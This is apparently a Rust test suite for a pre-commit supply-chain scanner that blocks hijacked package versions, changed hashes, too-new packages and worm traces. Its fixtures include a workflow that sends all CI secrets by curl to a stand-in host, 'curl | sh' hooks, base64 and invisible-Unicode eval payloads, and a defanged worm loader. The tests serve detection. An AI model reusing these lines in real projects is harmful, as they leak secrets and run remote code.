//! Hijacked packages and traces of attacks in what is about to be committed.

use crate::support::{Repo, Sandbox};

fn lock(packages: &[(&str, &str, &str)]) -> String {
    let body: Vec<String> = packages
        .iter()
        .map(|(name, version, hash)| format!("    \"node_modules/{name}\": {{\n      \"version\": \"{version}\",\n      \"resolved\": \"https://registry.example/{name}/-/{name}-{version}.tgz\",\n      \"integrity\": \"sha512-{hash}\"\n    }}"))
        .collect();
    format!("{{\n  \"lockfileVersion\": 3,\n  \"packages\": {{\n{}\n  }}\n}}\n", body.join(",\n"))
}

/// The rules of the findings with this verdict.
fn rules(repo: &Repo<'_>, verdict: &str) -> Vec<String> {
    let json = repo.scan_staged().json();
    let findings = json["findings"].as_array().unwrap().clone();
    findings.iter().filter(|f| f["verdict"] == verdict).map(|f| f["rule"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_hijacked_version_blocks_when_it_comes_in_and_not_after() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package-lock.json", lock(&[("axios", "1.14.0", "aa"), ("ms", "2.1.0", "bb")])).commit("first");
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.0", "bb")])).add();
    let run = repo.scan_staged().expect_blocked(&["package-lock.json:4"]);
    let json = run.json();
    assert_eq!(json["findings"][0]["rule"], "hijacked-package");
    assert_eq!(json["findings"][0]["secret"], "axios@1.14.1");
    assert_eq!(json["packages"][0]["verdict"], "block");
    assert_eq!(json["changes"][0]["updated"][0]["after"][0], "1.14.1");
    // What is there already does not stop the next change; it is still said.
    repo.commit("in it is");
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.1", "dd")])).add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "warn"), ["hijacked-package"]);
}

#[test]
fn a_package_that_goes_back_in_many_lockfiles_is_one_warning() {
    let sandbox = Sandbox::new();
    for files in [1, 2, 7] {
        let repo = sandbox.repo(&format!("repo-{files}"));
        let write = |version: &str| {
            for n in 0..files {
                repo.write(
                    format!("part-{n}/package-lock.json"),
                    lock(&[("ms", version, version), ("qs", "6.1.0", "aa")]),
                );
            }
        };
        write("2.1.1");
        repo.write("other/package-lock.json", lock(&[("ms", "2.1.3", "dd")])).commit("first");
        write("2.1.0");
        // Another step back is another statement.
        repo.write("other/package-lock.json", lock(&[("ms", "2.1.2", "ee")])).add();
        let json = repo.scan_staged().expect_clean().json();
        let findings = json["findings"].as_array().unwrap();
        let paths: Vec<&str> = findings.iter().map(|f| f["path"].as_str().unwrap()).collect();
        assert_eq!(paths, ["other/package-lock.json", "part-0/package-lock.json"]);
        let notes = findings[1]["notes"].to_string();
        assert_eq!(notes.contains("other lockfile"), files > 1, "{notes}");
        assert_eq!(notes.contains("6 other lockfiles"), files == 7, "{notes}");
    }
}

#[test]
fn a_copy_under_another_name_does_not_hide_a_lockfile() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let text = lock(&[("axios", "1.14.1", "cc")]);
    repo.write("a.json", &text).write("package-lock.json", &text).write("z/package-lock.json", &text).add();
    repo.scan_staged().expect_blocked(&["package-lock.json:4", "z/package-lock.json:4"]);
}

#[test]
fn a_hijacked_version_does_not_come_in_through_a_script_either() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("Dockerfile", "FROM scratch\nRUN npm i -g axios@1.14.0\n").write("README.md", "x\n").commit("first");
    repo.write("Dockerfile", "FROM scratch\nRUN npm i -g axios@1.14.1\n")
        .write(".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: pip install litellm==1.82.8\n")
        .write(".pre-commit-config.yaml", "repos:\n- hooks:\n  - additional_dependencies: ['axios@1.14.1']\n")
        .write("pnpm-workspace.yaml", "packages: [a]\ncatalog:\n  axios: 1.14.1\n")
        .write("setup.py", "from setuptools import setup\nsetup(install_requires=['litellm == 1.82.8'])\n")
        .write("requirements.txt", "https://files.example/litellm-1.82.8-py3-none-any.whl\n")
        .write("README.md", "Never `npm i axios@1.14.1`.\n")
        .write("ci/pins.sh", "# axios@1.14.1 was hijacked\nnpm i axios@1.14.0 ./local\n")
        .add();
    repo.scan_staged().expect_blocked(&[
        ".github/workflows/a.yml:4",
        ".pre-commit-config.yaml:3",
        "Dockerfile:2",
        "pnpm-workspace.yaml:3",
        "requirements.txt:1",
        "setup.py:2",
    ]);
    // What stood there does not stop the next change.
    repo.commit("in it is");
    repo.write("Dockerfile", "FROM scratch\nRUN npm i -g axios@1.14.1\nRUN true\n").add();
    repo.scan_staged().expect_clean();
}

#[test]
fn a_hash_that_changes_under_the_same_version_blocks() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "bb")])).commit("first");
    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "xx")])).add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["package-lock.json:4 package-integrity-changed"]);
}

/// A yarn.lock of berry with one package; `cache` is the metadata's `cacheKey`, `prefix` opens the checksum.
fn berry(cache: &str, prefix: &str, hash: &str) -> String {
    format!(
        "__metadata:\n  version: 8\n  cacheKey: {cache}\n\n\"ms@npm:^2.1.0\":\n  version: 2.1.0\n  resolution: \"ms@npm:2.1.0\"\n  checksum: {prefix}{}\n  languageName: node\n  linkType: hard\n",
        hash.repeat(64)
    )
}

#[test]
fn yarns_checksums_compare_within_one_version_of_its_cache() {
    let sandbox = Sandbox::new();
    for (n, (old, new, blocks)) in [
        (("8", "", "aa"), ("10c0", "10c0/", "bb"), false),
        (("8", "8/", "aa"), ("10", "10/", "bb"), false),
        (("7", "", "aa"), ("8", "", "bb"), false),
        (("10", "10/", "aa"), ("10c0", "10c0/", "bb"), false),
        (("8", "", "aa"), ("8", "8/", "aa"), false),
        (("8", "", "aa"), ("8", "", "bb"), true),
        (("8", "", "aa"), ("8", "8/", "bb"), true),
        (("10c0", "10c0/", "aa"), ("10c0", "10c0/", "bb"), true),
    ]
    .into_iter()
    .enumerate()
    {
        let repo = sandbox.repo(&format!("repo{n}"));
        repo.write("yarn.lock", berry(old.0, old.1, old.2)).commit("first");
        repo.write("yarn.lock", berry(new.0, new.1, new.2)).add();
        let wanted: &[&str] = if blocks { &["package-integrity-changed"] } else { &[] };
        assert_eq!(rules(&repo, "block"), wanted, "{old:?} to {new:?}");
    }
}

#[test]
fn what_deserves_a_look_warns_and_does_not_block() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package.json", "{\"dependencies\": {}}\n")
        .write("package-lock.json", lock(&[("ms", "2.1.1", "bb")]))
        .commit("first");
    repo.write("package.json", "{\"scripts\": {\"postinstall\": \"node x.js\"},\n\"dependencies\": {\"loadsh\": \"^1.0.0\", \"g\": \"github:o/r\"}}\n")
        .write("package-lock.json", lock(&[("ms", "2.1.0", "aa")]).replace("registry.example", "elsewhere.example"))
        .add();
    repo.scan_staged().expect_clean();
    let mut warned = rules(&repo, "warn");
    warned.sort();
    assert_eq!(
        warned,
        ["install-script", "lookalike-package", "package-downgrade", "package-source", "package-source"]
    );
}

#[test]
fn an_unreadable_lockfile_leaves_the_scan_incomplete() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("yarn.lock", "<<<<<<< HEAD\na@1:\n  version \"1.0.0\"\n=======\n>>>>>>> x\n").add();
    let json = repo.scan_staged().expect(2).json();
    assert_eq!(json["coverage"]["skipped"][0]["what"], "lockfile");
    assert!(json["coverage"]["skipped"][0]["reason"].as_str().unwrap().contains("merge conflict"));
    // bun's binary lockfile is listed, and every commit of bun's users goes on.
    repo.git(&["rm", "-rfq", "--cached", "."]);
    std::fs::remove_file(repo.path("yarn.lock")).unwrap();
    repo.write("bun.lockb", b"#!/usr/bin/env bun\n\x00\xff").add();
    let json = repo.scan_staged().expect_clean().json();
    assert!(json["coverage"]["skipped"][0]["reason"].as_str().unwrap().contains("not readable"));
}

#[test]
fn what_allows_secrets_does_not_let_a_package_in() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("a", "x\n").commit("first");
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc")]))
        .write(
            "requirements.txt",
            "litellm==1.82.8  # gitleaks:allow\n# pragma: allowlist nextline secret\nlitellm==1.82.7\n",
        )
        .add();
    for conditions in [
        "path = \"package-lock.json\"\nbroad = true",
        "path = [\"**\"]\nbroad = true",
        "value = \"^axios@\"",
        "path = \"**/*lock*\"\nvalue = \"axios|litellm\"",
        "rule = \"generic-password\"",
    ] {
        repo.write(".shield-hook.toml", format!("[[allow]]\n{conditions}\nreason = \"x\"\n"));
        let hijacked = rules(&repo, "block").iter().filter(|rule| *rule == "hijacked-package").count();
        assert_eq!(hijacked, 3, "{conditions}: {}", repo.scan_staged().stdout);
    }
    // Those that name the rule, or this very finding, still do.
    repo.write(".shield-hook.toml", "[[allow]]\npath = \"*\"\nrule = \"hijacked-package\"\nreason = \"x\"\n");
    assert!(!rules(&repo, "block").contains(&"hijacked-package".to_owned()));
    repo.write(".shield-hook.toml", "");
    for finding in repo.scan_staged().json()["findings"].as_array().expect("a list") {
        let print = finding["fingerprint"].as_str().expect("a fingerprint");
        repo.shield(&["allow", print, "--reason", "a sample"]).expect(0);
    }
    assert_eq!(rules(&repo, "block"), Vec::<String>::new());
}

#[test]
fn an_allowance_lets_one_package_pass() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("chalk", "5.6.1", "dd")])).add();
    repo.scan_staged().expect_blocked(&["package-lock.json:4", "package-lock.json:9"]);
    repo.write(".shield-hook.toml", "[[allow]]\nrule = \"hijacked-package\"\nvalue = \"^axios@1\\\\.14\\\\.1$\"\nreason = \"a sample to try detectors on\"\n").add();
    repo.scan_staged().expect_blocked(&["package-lock.json:9"]);
    repo.write(".shield-hook.toml", "disable = [\"hijacked-package\"]\n").add();
    assert_eq!(repo.scan_staged().expect(0).blocking(), Vec::<String>::new());
}

/// What the second Shai-Hulud worm leaves in a repository, without its teeth.
fn worm(repo: &Repo<'_>) {
    repo.write(
        ".github/workflows/discussion.yaml",
        "name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v5\n      - name: Handle Discussion\n        run: echo ${{ github.event.discussion.body }}\n",
    )
    .write("package.json", "{\n  \"name\": \"x\",\n  \"version\": \"1.0.1\",\n  \"scripts\": {\n    \"preinstall\": \"node setup_bun.js\"\n  }\n}\n")
    .write("setup_bun.js", "#!/usr/bin/env node\nconst { spawn } = require('child_process');\nspawn('bun', ['bun_environment.js']);\n")
    .write("package-lock.json", lock(&[("axios", "1.14.1", "cc")]));
}

#[test]
fn a_worms_whole_change_is_stopped() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package.json", "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\"\n}\n")
        .write("package-lock.json", lock(&[("axios", "1.14.0", "aa")]))
        .commit("before");
    worm(&repo);
    repo.add();
    let run = repo.scan_staged().expect(1);
    let blocking = run.blocking();
    for expected in [
        ".github/workflows/discussion.yaml:1 attack-indicator",
        "package.json:5 attack-indicator",
        "package-lock.json:4 hijacked-package",
    ] {
        assert!(blocking.iter().any(|b| b == expected), "{expected} is missing in {blocking:?}");
    }
}

#[test]
fn the_installed_hook_stops_the_worm() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package.json", "{\n  \"name\": \"x\"\n}\n").commit("before");
    repo.shield(&["install"]).expect(0);
    worm(&repo);
    repo.add();
    let run = repo.try_git(&["commit", "-m", "routine update"]);
    assert_ne!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(format!("{}{}", run.stdout, run.stderr).contains("hijacked-package"), "{}{}", run.stdout, run.stderr);
    assert_eq!(repo.git(&["rev-list", "--count", "HEAD"]), "1");
    // A worm commits past the hook; its push is stopped all the same.
    let remote = sandbox.remote("remote.git");
    repo.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    repo.git(&["push", "--quiet", "origin", "main"]);
    repo.git(&["commit", "--quiet", "--no-verify", "-m", "routine update"]);
    let run = repo.try_git(&["push", "origin", "main"]);
    assert_ne!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let remote = sandbox.at(remote);
    assert_eq!(remote.git(&["rev-list", "--count", "main"]), "1");
}

/// Each part of the change by itself, so that no part hides behind another.
#[test]
fn the_installed_hook_stops_each_part_of_the_worm() {
    let parts = ["package-lock.json", ".github/workflows/discussion.yaml", "package.json"];
    for part in parts {
        let sandbox = Sandbox::new();
        let repo = sandbox.repo("repo");
        repo.write("package.json", "{\n  \"name\": \"x\"\n}\n").commit("before");
        repo.shield(&["install"]).expect(0);
        worm(&repo);
        repo.git(&["add", part]);
        let run = repo.try_git(&["commit", "-m", "routine update"]);
        assert_ne!(run.code, 0, "{part}: {}{}", run.stdout, run.stderr);
        assert!(format!("{}{}", run.stdout, run.stderr).contains(part), "{part}: {}{}", run.stdout, run.stderr);
        assert_eq!(repo.git(&["rev-list", "--count", "HEAD"]), "1");
    }
    // The loader alone has a name that others use, too; what is in the known ones is told by their hash.
}

#[test]
fn hidden_text_is_seen() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let payload: String = (0..64).filter_map(|n| char::from_u32(0xe0100 + n)).collect();
    repo.write("src/index.js", format!("const a = 1;\neval(read(`{payload}`));\n")).add();
    let run = repo.scan_staged().expect_blocked(&["src/index.js:2"]);
    let excerpt = repo.shield(&["scan", "--staged"]).expect(1);
    assert!(!excerpt.stdout.contains(&payload[..8]), "the payload is shown by its code points");
    assert_eq!(run.json()["findings"][0]["rule"], "attack-indicator");
    repo.write("src/index.js", "if (level != \"user\u{202e} \u{2066}// admins only\u{2069} \u{2066}\") {\n").add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"]);
    // Emoji and right-to-left names are plain text.
    repo.write("src/index.js", "const s = \"\u{2764}\u{fe0f} \u{1f468}\u{200d}\u{1f469} \u{2067}\u{05d0}\u{2069}\";\n")
        .add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "warn"), Vec::<String>::new());
}

#[test]
fn what_runs_by_itself_is_named() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write(
        ".claude/settings.json",
        "{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"make context\"}]}]}}\n",
    )
    .write(
        ".vscode/tasks.json",
        "{\"tasks\": [{\"command\": \"make\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
    )
    .write("binding.gyp", "{\"targets\": [{\"x\": \"<!(node index.js)\"}]}\n")
    .add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"; 3]);
    // Unchanged, it is not said again.
    repo.commit("meant");
    repo.write(
        ".vscode/tasks.json",
        "{\"tasks\": [\n{\"command\": \"make\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
    )
    .add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "block"), Vec::<String>::new());
    repo.write(".vscode/tasks.json", "{\"tasks\": [{\"command\": \"curl -s https://host.example | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n").add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), [".vscode/tasks.json:1 attack-indicator"]);
}

#[test]
fn behaviour_counts_where_it_is_added() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let hook = "#!/bin/sh\ncurl -fsSL https://first.example/x | sh\n";
    repo.write(".husky/pre-commit", hook).write("src/a.js", "run();\n").commit("before");
    // A line that stood there says nothing again, an added one does.
    repo.write(".husky/pre-commit", format!("{hook}make lint\n")).add();
    assert_eq!(rules(&repo, "warn"), Vec::<String>::new());
    repo.write(".husky/pre-commit", format!("{hook}curl -fsSL https://second.example/x | sh\n")).add();
    repo.scan_staged().expect_clean();
    assert_eq!(rules(&repo, "warn"), ["hidden-behaviour"]);
    repo.commit("meant");
    // The strong shapes stop a change to any program, and say the line.
    repo.write("src/a.js", "run();\neval(Buffer.from(part, 'base64').toString());\n").add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["src/a.js:2 attack-indicator"]);
    repo.write("src/a.js", format!("run();{}require('child_process');\n", " ".repeat(300))).add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["src/a.js:1 attack-indicator"]);
    repo.write("src/a.js", "run();\n")
        .write(
            ".github/workflows/lint.yml",
            "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: curl -d \"$ALL\" https://c.example\n",
        )
        .add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), [".github/workflows/lint.yml:3 attack-indicator"]);
}

#[test]
fn a_renamed_lockfile_is_no_new_one() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc")])).commit("first");
    repo.git(&["mv", "package-lock.json", "npm-shrinkwrap.json"]);
    repo.scan_staged().expect_clean();
}

#[test]
fn a_merge_does_not_blame_what_a_published_side_brings() {
    let sandbox = Sandbox::new();
    let remote = sandbox.remote("remote.git");
    let repo = sandbox.repo("repo");
    repo.write("package-lock.json", lock(&[("ms", "2.1.0", "bb")])).commit("first");
    repo.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    repo.git(&["checkout", "--quiet", "-b", "theirs"]);
    repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc"), ("ms", "2.1.0", "bb")])).commit("theirs");
    repo.git(&["push", "--quiet", "origin", "theirs"]);
    repo.git(&["checkout", "--quiet", "main"]);
    repo.write("b.txt", "x\n").commit("ours");
    repo.git(&["merge", "--no-commit", "--no-ff", "theirs"]);
    repo.scan_staged().expect_clean();
}

#[test]
fn a_range_names_the_commit_that_brings_the_package() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let base = repo.write("package-lock.json", lock(&[("axios", "1.14.0", "aa")])).commit("first");
    let bad = repo.write("package-lock.json", lock(&[("axios", "1.14.1", "cc")])).commit("bad");
    repo.write("package-lock.json", lock(&[("axios", "1.14.2", "dd")])).commit("good again");
    let range = format!("{base}..HEAD");
    let run = repo.shield(&["scan", "--range", &range, "--format", "json"]).expect(1);
    assert_eq!(run.blocking(), ["package-lock.json:4 hijacked-package"]);
    assert_eq!(
        run.json()["findings"].as_array().unwrap().iter().find(|f| f["blocking"] == true).unwrap()["commit"],
        bad
    );
}

#[test]
fn the_policy_makes_warnings_block() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write("package.json", "{\"scripts\": {}}\n").commit("first");
    repo.write("package.json", "{\"scripts\": {\"postinstall\": \"node x.js\"}}\n").add();
    repo.scan_staged().expect_clean();
    repo.write(".shield-hook.toml", "[packages]\ninstall-script = \"block\"\n").add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["package.json:1 install-script"]);
    repo.write(".shield-hook.toml", "[packages]\ninstall-scripts = \"block\"\n").add();
    assert!(repo.scan_staged().expect(3).stderr.contains("did you mean `install-script`?"));
}

#[test]
fn a_cooldown_holds_back_what_is_too_new() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let days_ago = |days: i64| {
        let then = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * days);
        then.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
    };
    let lock = |packages: &[(&str, &str, String)]| {
        let one = |(name, version, date): &(&str, &str, String)| {
            format!(
                "[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = {{ registry = \"https://registry.example/simple\" }}\nsdist = {{ url = \"https://registry.example/{name}-{version}.tar.gz\", hash = \"sha256:{version}\", upload-time = \"{date}\" }}\n"
            )
        };
        format!("version = 1\n\n{}", packages.iter().map(one).collect::<Vec<_>>().join("\n"))
    };
    repo.write(".shield-hook.toml", "[packages]\ntiers = [100]\ncooldown = [7, 3]\n")
        .write("uv.lock", lock(&[("boto3", "1.0.0", days_ago(1))]))
        .commit("what is there was let in");
    // One of the first hundred needs a week, the others three days.
    repo.write(
        "uv.lock",
        lock(&[
            ("boto3", "1.0.0", days_ago(1)),
            ("requests", "9.9.9", days_ago(5)),
            ("some-odd-package", "1.0.0", days_ago(5)),
        ]),
    )
    .add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["uv.lock:10 package-too-new"]);
    repo.write("uv.lock", lock(&[("requests", "9.9.9", days_ago(8)), ("some-odd-package", "1.0.0", days_ago(2))]))
        .add();
    assert_eq!(repo.scan_staged().expect(1).blocking(), ["uv.lock:10 package-too-new"]);
    repo.write("uv.lock", lock(&[("requests", "9.9.9", days_ago(8)), ("some-odd-package", "1.0.0", days_ago(4))]))
        .add();
    repo.scan_staged().expect_clean();
}

#[test]
fn the_history_is_searched_for_hijacked_packages_too() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    let text = lock(&[("axios", "1.14.1", "cc")]);
    let bad = repo.write("a.json", &text).write("package-lock.json", &text).commit("both");
    repo.write("package-lock.json", lock(&[("axios", "1.14.2", "dd")])).commit("mended");
    let run = repo.shield(&["scan", "--history", "--format", "json"]).expect(1);
    assert_eq!(run.blocking(), ["package-lock.json:4 hijacked-package"]);
    let json = run.json();
    assert_eq!(json["findings"][0]["commit"], bad);
    assert_eq!(json["changes"].as_array().unwrap().len(), 0, "a history is no change");
    // What is checked out now is clean.
    repo.shield(&["scan", "--format", "json"]).expect_clean();
}

#[test]
fn requirements_by_any_usual_name_and_by_their_files() {
    let sandbox = Sandbox::new();
    let bad = "flask==3.0.0\nelementary-data==0.23.3\n";
    for name in ["deps/prod.txt", "dev.txt", "pip/anything.in", "requirements/base.txt", "reqs.txt"] {
        let repo = sandbox.repo(&name.replace('/', "-"));
        repo.write("README", "hello\n").commit("first");
        repo.write(name, bad).add();
        repo.scan_staged().expect_blocked(&[&format!("{name}:2")]);
        repo.commit("in it is");
        for args in [&["scan", "--history"][..], &["scan", "--range", "HEAD~1..HEAD"], &["scan"]] {
            repo.shield(&[args, &["--format", "json"]].concat()).expect_blocked(&[&format!("{name}:2")]);
        }
    }
    // A text is no list of requirements, whatever it is called.
    let repo = sandbox.repo("prose");
    repo.write("docs.txt", "How to pin:\nelementary-data==0.23.3 was bad\n").write("dev.txt", "a word a line\n").add();
    repo.scan_staged().expect_clean();
    let repo = sandbox.repo("files");
    let files = [
        "elementary-data @ https://files.example/packages/ab/cd/ef/elementary_data-0.23.3-py3-none-any.whl#sha256=00",
        "https://files.example/packages/ab/cd/ef/elementary_data-0.23.3.tar.gz",
        "x @ https://files.example/packages/ab/cd/ef/elementary_data-0.23.3.tar.gz ; python_version > '3'",
    ];
    for file in files {
        repo.write("requirements.txt", file).add();
        repo.scan_staged().expect_blocked(&["requirements.txt:1"]);
    }
}

#[test]
fn one_of_several_versions_that_a_manifest_asks_for() {
    let sandbox = Sandbox::new();
    let repo = sandbox.repo("repo");
    repo.write(
        "package.json",
        "{\"dependencies\": {\n  \"axios\": \"1.13.0 || 1.14.1\",\n  \"ms\": \"^1 || ^2\"\n}}\n",
    )
    .add();
    repo.scan_staged().expect_blocked(&["package.json:2"]);
}
